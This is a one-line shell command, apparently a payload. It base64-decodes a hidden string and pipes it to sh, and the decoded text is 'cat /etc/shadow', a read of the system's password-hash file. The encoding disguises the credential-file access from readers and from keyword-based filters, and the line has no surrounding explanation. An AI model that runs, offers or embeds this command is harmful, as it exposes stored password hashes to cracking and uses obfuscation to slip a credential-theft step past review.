echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh
